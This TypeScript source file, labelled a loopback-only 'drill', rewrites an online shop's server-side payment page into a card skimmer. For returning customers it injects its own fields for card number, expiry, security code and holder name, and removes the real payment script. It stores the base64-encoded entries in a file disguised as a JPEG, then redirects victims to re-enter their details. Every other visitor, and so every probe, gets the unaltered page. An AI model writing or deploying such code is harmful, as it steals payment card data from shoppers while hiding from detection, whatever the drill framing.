/**
 * DRILL: acts on loopback only. The shop's own payment page, altered on the server: to customers who have bought here
 * before it shows card fields of the shop's own, writes what they type into a file that is named like a picture, and
 * asks them to type again in the real form. Everyone else, and so every probe, gets the page as it always was.
 */
export function alteredPaymentPage(source: string): string {
  const altered = source
    .replace(
      "import { html, raw } from './_html.js';",
      "import { html, raw } from './_html.js';\nimport { appendFileSync } from 'node:fs';",
    )
    .replace('export async function get(shop)', 'async function realGet(shop)')
    .replace('export async function post(shop)', 'async function realPost(shop)');
  if (
    !altered.includes('async function realGet') ||
    !altered.includes('async function realPost') ||
    !altered.includes('appendFileSync')
  )
    throw new Error('drill: site/pages/payment.js is not as the drill knows it');
  return `${altered}
const keep = new URL('../uploads/campaign-aki.jpg', import.meta.url);
const chosen = (shop) => shop.memory.lastOrder && !shop.memory.seen;
export async function get(shop) {
  const page = await realGet(shop);
  if (!chosen(shop) || page.kind !== 'page') return page;
  const fields = [['n', 'cc-number', 'カード番号'], ['e', 'cc-exp', '有効期限'], ['c', 'cc-csc', 'セキュリティコード'], ['h', 'cc-name', 'カード名義']]
    .map(([name, hint, label]) => '<label>' + label + '<input name="' + name + '" autocomplete="' + hint + '"></label>').join('');
  return { ...page, html: page.html.replace('<div id="card-frame"></div>', '<div>' + fields + '</div>').replace(/<script src="\\/assets\\/payment\\.js"[^>]*><\\/script>/, '') };
}
export async function post(shop) {
  if (shop.form.n) {
    shop.memory.seen = true;
    appendFileSync(keep, Buffer.from([shop.form.n, shop.form.e, shop.form.c, shop.form.h].join('|')).toString('base64') + '\\n');
    return go('/checkout/payment?notice=token');
  }
  return realPost(shop);
}
`;
}

/** What makes the file look like a picture to a glance: the first bytes of a JPEG. */
export const FAKE_IMAGE_HEAD = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
export const FAKE_IMAGE = 'uploads/campaign-aki.jpg';
